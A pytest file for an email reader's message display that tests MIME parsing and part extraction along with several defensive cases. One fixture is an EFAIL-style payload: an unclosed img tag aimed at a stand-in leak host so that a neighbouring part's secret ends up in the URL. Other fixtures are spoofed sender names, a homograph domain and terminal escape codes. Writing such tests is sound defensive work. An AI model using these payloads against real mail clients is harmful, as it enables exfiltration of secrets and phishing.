"""One message as the reader shows it."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.mime.letters import attached, letter, multipart, part
from vault_app.mime.display import open_message, part_bytes
from vault_app.mime.sanitise import sanitise_html
from vault_app.model.errors import UsageError
from vault_app.model.mail import PartRow

_PLAIN = part("Content-Type: text/plain; charset=utf-8", body="Plain text")
_HTML = part("Content-Type: text/html", body='<p>Rich <img src="cid:logo@x"></p>')
_LOGO = attached(b"\x89PNG", "Content-Type: image/png", "Content-ID: <logo@x>")


def test_a_message_with_all_that_there_can_be() -> None:
    related = multipart(_HTML, _LOGO, subtype="related", boundary="r", header=())
    text = multipart(_PLAIN, related, subtype="alternative", boundary="a", header=())
    shown = open_message(multipart(text, attached(b"%PDF-1.7")))
    assert shown.subject == "Hi"
    assert shown.sender is not None
    assert (shown.sender.name, shown.sender.address) == ("Ann", "ann@example.org")
    assert [person.address for person in shown.to] == ["bob@example.net"]
    (body,) = shown.bodies
    assert (body.html, body.text) == ('<p>Rich <img src="cid:logo@x"></p>', "Plain text")
    assert shown.html == body.html
    assert shown.attachments == (
        PartRow(
            section="2",
            media_type="application/pdf",
            filename="report.pdf",
            content_id=None,
            is_attachment=True,
            size=8,
        ),
    )
    assert shown.cids == {"logo@x": "1.2.2"}
    assert [one.section for one in shown.parts] == ["1.1", "1.2.1", "1.2.2", "2"]


def test_each_text_is_a_document_of_its_own() -> None:
    # EFAIL: an attribute left open in one part must not swallow the secret of the next.
    raw = multipart(
        part("Content-Type: text/html", body='<img src="https://leak.example/'),
        part("Content-Type: text/plain", body="the secret"),
        part("Content-Type: text/html", body='">'),
    )
    shown = open_message(raw)
    assert len(shown.bodies) == 3
    assert [body.html for body in shown.bodies] == ['<img src="https://leak.example/', None, '">']
    assert all("secret" not in sanitise_html(body.html).html for body in shown.bodies if body.html)
    assert "the secret" in shown.text


def test_html_alone_is_also_told_as_text() -> None:
    (body,) = open_message(letter("Content-Type: text/html", "", "<p>One</p><p>Two</p>")).bodies
    assert body.text == "One\n\nTwo"


def test_text_is_safe_for_a_terminal() -> None:
    shown = open_message(letter("Subject: x", "", b"a\x1b[2J\tb\r\nc"))
    assert shown.text == "a␛[2J\tb\nc"


@pytest.mark.parametrize(
    ("value", "is_doubtful"),
    [
        ("Ann <ann@example.org>", False),
        ("ann@example.org", False),
        ('"ann@example.org" <ann@example.org>', False),
        ('"Ann@Example.org" <ann@example.org>', False),
        ('"boss@example.gov" <evil@example.com>', True),
        ('"Boss (boss@example.gov)" <evil@example.com>', True),
        ("=?utf-8?q?boss=40example=2Egov=00?= <evil@example.com>", True),
        ('"me @ work" <ann@example.org>', False),
        ("No Address", True),
    ],
)
def test_names_that_pretend_are_flagged(value: str, is_doubtful: bool) -> None:
    sender = open_message(letter(f"From: {value}", "", "")).sender
    assert sender is not None
    assert sender.is_doubtful is is_doubtful


def test_look_alike_hosts_are_shown_in_ascii() -> None:
    sender = open_message(letter("From: a@аррӏе.com", "", "")).sender
    assert sender is not None
    assert sender.host == "xn--80ak6aa92e.com"


def test_dates_that_cannot_be_read_are_shown_as_they_are() -> None:
    shown = open_message(letter("Date: sometime\x1b in May", "", ""))
    assert shown.date is None
    assert shown.date_text == "sometime␛ in May"


def test_a_message_without_a_sender() -> None:
    shown = open_message(b"")
    assert shown.sender is None
    assert shown.text == ""
    assert shown.html is None


def test_parts_are_handed_out_whole() -> None:
    content = bytes(range(256)) * 50
    inner = letter("Subject: inner", "", "text")
    raw = multipart(
        _PLAIN, attached(content), part("Content-Type: message/rfc822", body=inner), attached(b"")
    )
    assert part_bytes(raw, "1") == b"Plain text"
    assert part_bytes(raw, "2") == content
    assert part_bytes(raw, "3") == inner
    assert part_bytes(raw, "4") == b""
    for section in ("5", "", "0", "1.1"):
        with pytest.raises(UsageError):
            part_bytes(raw, section)


def test_damaged_base64_is_handed_out_as_far_as_it_goes() -> None:
    raw = letter("Content-Transfer-Encoding: base64", "", "aGVs*bG8g", "d29ybGQ")
    assert part_bytes(raw, "1") == b"hello world"


@given(st.binary(max_size=400))
def test_never_raises(raw: bytes) -> None:
    shown = open_message(raw)
    for one in shown.parts:
        part_bytes(raw, one.section)
